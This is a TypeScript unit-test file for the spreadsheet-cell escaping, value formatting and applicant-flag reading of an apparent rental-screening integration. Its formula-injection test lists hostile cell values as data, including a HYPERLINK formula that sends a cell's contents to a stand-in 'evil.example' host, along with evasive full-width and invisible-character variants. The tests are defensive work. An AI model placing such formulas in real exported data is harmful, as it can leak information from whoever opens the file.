import fc from 'fast-check';

import { readFlags } from '../../../nodes/RentalScreening/results/applicant.ts';
import {
	computeAverage,
	toOneLine,
	toPercent,
	toPlainText,
	readRow,
	escapeCell,
	escapeCells,
	formatForReport,
	type Format,
} from '../../../nodes/RentalScreening/results/cells.ts';

/** The cell of a column of numbers. */
const toNumber = (value: unknown) =>
	readRow([{ name: 'n', format: 'number', read: (given: unknown) => given }], value).n;

test('a cell that would run as a formula gets a word in front', () => {
	const formulas = [
		...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-1-1', '-', '@SUM(A1)'],
		...['\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0001=1+1', "' '+1+1"],
		...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1'],
		// Full-width, as some spreadsheets read them.
		...['＝1+1', '＋1+1', '－1', ' ＠SUM(A1)'],
	];
	expect(formulas.map(escapeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
	const others = [
		...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
		...['Text: =1+1', '\tplain', 'a＝b', '+14165550100', '-12.5', '+0.25'],
	];
	expect(others.map(escapeCell)).toEqual(others);
});

test.each([
	['a'.repeat(32_767), 'a'.repeat(32_767)],
	['a'.repeat(32_768), `${'a'.repeat(32_766)}…`],
	[`=${'a'.repeat(32_767)}`, `Text: =${'a'.repeat(32_759)}…`],
	[`${'a'.repeat(32_765)}😀bc`, `${'a'.repeat(32_765)}…`],
])('a cell has at most 32,767 characters: case %#', (text, expected) => {
	expect(escapeCell(text)).toBe(expected);
});

test('a cell of many millions of invisible characters is cut', () => {
	expect(escapeCell('\u200b'.repeat(8_000_000))).toHaveLength(32_767);
	expect(escapeCell('\r\n'.repeat(40_000))).toBe(`${' '.repeat(32_766)}…`);
});

test('a cell has no NUL, since a table in PostgreSQL refuses it and with it the rows behind', () => {
	expect(escapeCell('Ann\0 Lee')).toBe('Ann  Lee');
	expect(escapeCell('\0=1+1')).toBe('Text:  =1+1');
});

test('a cell of any text is one line, never begins like a formula and loses nothing but line breaks and NULs', () => {
	expect(escapeCell('a\r\nb\r\v\u0085c\u2028\u2029=1')).toBe('a b   c  =1');
	const lineBreaks = /\r\n|[\0\n\v\f\r\u0085\u2028\u2029]/g;
	const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
	fc.assert(
		fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
			const text = `${start}${rest}`.replace(lineBreaks, ' ');
			const safe = escapeCell(start + rest);
			expect([text, `Text: ${text}`]).toContain(safe);
			if (/^\s*[=+\-@]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
		}),
	);
});

test('all texts of an answer are safe cells but its IDs, which later steps send back', () => {
	const ids = { id: '=1', userId: '+abC/9==' };
	const answer = {
		...ids,
		note: '=1+1',
		paid: '=1+1',
		idea: '=1+1',
		score: -5,
		list: ['=1'],
		none: null,
	};
	expect(escapeCells(answer)).toEqual({
		...answer,
		...{ note: 'Text: =1+1', paid: 'Text: =1+1', idea: 'Text: =1+1' },
	});
	for (const id of ['-NxYz_0123', '=1+1', 'a\nb', '0'.repeat(40_000)]) {
		const read = (given: string) => given;
		expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
	}
});

test.each<[Format, unknown, string | null]>([
	['number', 2100, '2,100'],
	['number', 480.256, '480.26'],
	['number', -1234567.891, '-1,234,567.89'],
	['number', '6250', '6,250'],
	['number', 0, '0'],
	['number', 1e300, `1${',000'.repeat(7)}…`],
	['number', 'a lot', null],
	['amount', 2100, '2,100.00'],
	['amount', '-1234567.891', '-1,234,567.89'],
	['amount', 999.999, '1,000.00'],
	['amount', 0, '0.00'],
	['amount', 1e300, '1e+300'],
	['amount', 'a lot', null],
	['currency', ' CAD', 'CAD'],
	['date', '2026-03-01', '2026-03-01'],
	['date', '2026-03-01T14:22:05.000Z', '2026-03-01'],
	['date', 'on 2026-03-01T14', 'on 2026-03-01T14'],
	['date', '', null],
	['term', 'FULL_TIME', 'Full time'],
	['term', 'CHECK_TYPE_DEEP_CHECK', 'Deep check'],
	['term', 'A_CHECK_TYPE_X', 'A check type x'],
	['term', null, null],
	['text', 'FULL_TIME', 'FULL_TIME'],
	['text', ' a\r\n b\u0000\u202Ec\uD800 ', 'a b c'],
	['text', '\u200B', null],
	['text', 'a'.repeat(320), 'a'.repeat(320)],
	['text', 'a'.repeat(321), `${'a'.repeat(319)}…`],
])('a report shows %s %j as %j', (format, value, shown) => {
	expect(formatForReport(format, value)).toBe(shown);
});

test('text is read without blanks at its ends, numbers and booleans as text, and nothing else', () => {
	expect([' one\n two', 0, false].map(toPlainText)).toEqual(['one\n two', '0', 'false']);
	expect([' \t', null, undefined, {}, ['a']].map(toPlainText)).toEqual(Array(5).fill(null));
	const lines = ['  one\r\n\t two  three ', ' \n ', null].map(toOneLine);
	expect(lines).toEqual(['one two three', '', '']);
});

test('a number is read from plain decimal text too', () => {
	const numbers = [0, -2.5, '12', ' 12.50 ', '+3', '-0.125'].map(toNumber);
	expect(numbers).toEqual([0, -2.5, 12, 12.5, 3, -0.125]);
	const others = [
		'',
		'x12',
		'12 CAD',
		'1,200',
		'1.',
		'.5',
		'1e3',
		'0x10',
		Infinity,
		NaN,
		true,
		[7],
	];
	expect(others.filter((value) => toNumber(value) !== null)).toEqual([]);
});

test('averages and percentages are of the values that are numbers', () => {
	const means = [[5, 4, 4], ['5', null, 'often', 2], ['often'], []].map(computeAverage);
	expect(means).toEqual([4.33, 3.5, NaN, NaN]);
	expect([toPercent(2100, 6250), toPercent('0', '6250')]).toEqual([33.6, 0]);
	const without = [toPercent(2100, 0), toPercent(2100, -5), toPercent(2100, null)];
	expect([...without, toPercent(null, 6250)]).toEqual([null, null, null, null]);
});

test.each<[unknown, string, string]>([
	['Plain words', 'Plain words', ''],
	['STABLE_INCOME', 'STABLE_INCOME', ''],
	[' two\nlines ', 'two lines', ''],
	[7, '7', ''],
	[['a', ['b', { c: 1 }]], 'a, b, c 1', ''],
	[{ code: 'X', message: 'Says it all' }, 'Says it all', 'code X'],
	[{ code: 'NSF' }, 'NSF', ''],
	[{ title: '  ', type: 'LATE' }, 'Late', ''],
	[{ kind: 'LATE_PAYMENT', days: 6 }, 'kind Late payment, days 6', 'kind LATE_PAYMENT, days 6'],
	[
		{ type: 'COLLECTIONS', amount: 7312.55, agencyName: 'Pacific Ltd.' },
		'Collections: amount 7312.55, agency name Pacific Ltd.',
		'amount 7312.55, agency name Pacific Ltd.',
	],
	[
		{ code: 'NSF', bank: { name: 'First Bank', fee: 48, none: null }, months: ['02', null, '03'] },
		'NSF: bank name First Bank, fee 48, months 02, 03',
		'bank name First Bank, fee 48, months 02, 03',
	],
	[
		{ description: 5, on_appeal: false },
		...Array<string>(2).fill('description 5, on appeal false'),
	],
	[{ code: null, other: {} }, 'No details given', ''],
] as Array<[unknown, string, string]>)(
	'the flag %j says %j, with the details %j',
	(flag, text, details) => {
		expect(readFlags('red', [flag])).toEqual([{ kind: 'red', text, details }]);
	},
);

test('a flag is described by its first filled member, description before code; without a value it is none', () => {
	const names = ['description', 'message', 'title', 'name', 'reason', 'type', 'code'];
	for (const [at, name] of names.entries()) {
		const others = names.slice(at).map((other) => [other, `says ${other}`]);
		const [flag] = readFlags('red', [Object.fromEntries(others.reverse())])!;
		expect(flag!.text).toBe(`says ${name}`);
	}
	expect(readFlags('red', [null, '', ' \n', [], [null]])).toEqual([]);
	for (const none of [undefined, null, {}, '']) expect(readFlags('red', none)).toBeNull();
});

test('a flag in place of a list is one', () => {
	for (const given of ['Eviction 2024', { description: 'Eviction 2024' }]) {
		expect(readFlags('red', given)).toMatchObject([{ text: 'Eviction 2024' }]);
	}
});
